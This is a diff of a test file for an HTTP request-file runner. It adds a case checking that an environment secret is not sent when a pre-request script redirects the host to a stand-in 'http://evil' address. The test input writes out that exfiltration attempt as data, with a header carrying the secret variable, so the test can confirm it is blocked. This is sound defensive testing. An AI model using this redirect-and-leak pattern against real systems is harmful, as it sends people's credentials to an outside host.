@@ -268,6 +268,14 @@ describe('a private value', () => {
     expect(lines).toEqual(['GET http://own/canary-1']);
   });
 
+  it('does not go where a script sends the request instead', async () => {
+    const text =
+      '< {% request.variables.set("host", "http://evil") %}\nGET {{host}}/\nX-Key: {{$processEnv KEY}}\n\n###\n@base = http://own\n< {% client.global.set("base", "http://evil") %}\nGET {{base}}/\nX-Key: {{$processEnv KEY}}\n';
+    const { lines, described } = await sendAll(text, { ...guarded, process: { KEY: 'canary-1' } });
+    expect(lines).toEqual([]);
+    for (const one of described) expect(one[1]).toContain('the environment variable KEY');
+  });
+
   it('is masked in logs, tests and mistakes', async () => {
     const text =
       '< {% const key = request.variables.get("$processEnv KEY"); client.log(key, btoa(key)); client.test(key, () => { throw new Error(key) }); %}\nGET http://own/\n\n> {% throw new Error(response.body.token + request.variables.get("$processEnv KEY")) %}\n';
@@ -304,8 +312,9 @@ describe('what scripts of other files have kept', () => {
     expect([
       kept.resolve('user.name'),
       kept.resolve('user.ids[0]'),
+      kept.resolve('$global.user.name'),
       kept.resolve('user.none'),
       kept.resolve('none'),
-    ]).toEqual(['Ann', '3', undefined, undefined]);
+    ]).toEqual(['Ann', '3', 'Ann', undefined, undefined]);
   });
 });
